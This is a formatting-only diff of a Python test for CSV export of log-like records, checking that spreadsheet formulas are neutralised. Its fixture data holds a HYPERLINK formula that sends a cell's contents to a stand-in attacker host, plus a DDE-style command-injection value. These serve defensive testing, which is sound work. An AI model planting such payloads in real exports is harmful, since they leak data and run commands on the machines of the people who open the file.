@@ -20,16 +20,23 @@ FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
 
 
 def sample_table() -> pa.Table:
-    return pa.table({
-        "event_time": pa.array([datetime(2026, 3, 10, 2, 13, 7, tzinfo=UTC),
-                                datetime(2026, 3, 10, 2, 13, 8, 123456, tzinfo=UTC)], pa.timestamp("us", tz="UTC")),
-        "actor": ["arn:aws:iam::1:user/a", "arn:aws:iam::1:user/b"],
-        "event_name": ["ListUsers", "GetObject"],
-        "user_agent": [HOSTILE_UA, "+cmd|' /C calc'!A0"],
-        "request": [FORMULA, None],
-        "count": [1, 2],
-        "ok": [True, None],
-    })
+    return pa.table(
+        {
+            "event_time": pa.array(
+                [
+                    datetime(2026, 3, 10, 2, 13, 7, tzinfo=UTC),
+                    datetime(2026, 3, 10, 2, 13, 8, 123456, tzinfo=UTC),
+                ],
+                pa.timestamp("us", tz="UTC"),
+            ),
+            "actor": ["arn:aws:iam::1:user/a", "arn:aws:iam::1:user/b"],
+            "event_name": ["ListUsers", "GetObject"],
+            "user_agent": [HOSTILE_UA, "+cmd|' /C calc'!A0"],
+            "request": [FORMULA, None],
+            "count": [1, 2],
+            "ok": [True, None],
+        }
+    )
 
 
 def test_table_escapes_control_characters() -> None:
@@ -48,7 +55,7 @@ def test_csv_neutralises_formulas_and_round_trips() -> None:
     assert rows[0]["event_time"] == "2026-03-10T02:13:07Z"
     assert rows[1]["event_time"] == "2026-03-10T02:13:08.123456Z"
     assert rows[0]["user_agent"] == HOSTILE_UA  # not a formula: kept exactly (CSV quotes it)
-    for cell in (text.splitlines()[1:]):
+    for cell in text.splitlines()[1:]:
         assert not cell.startswith(("=", "+", "-", "@"))
 
 
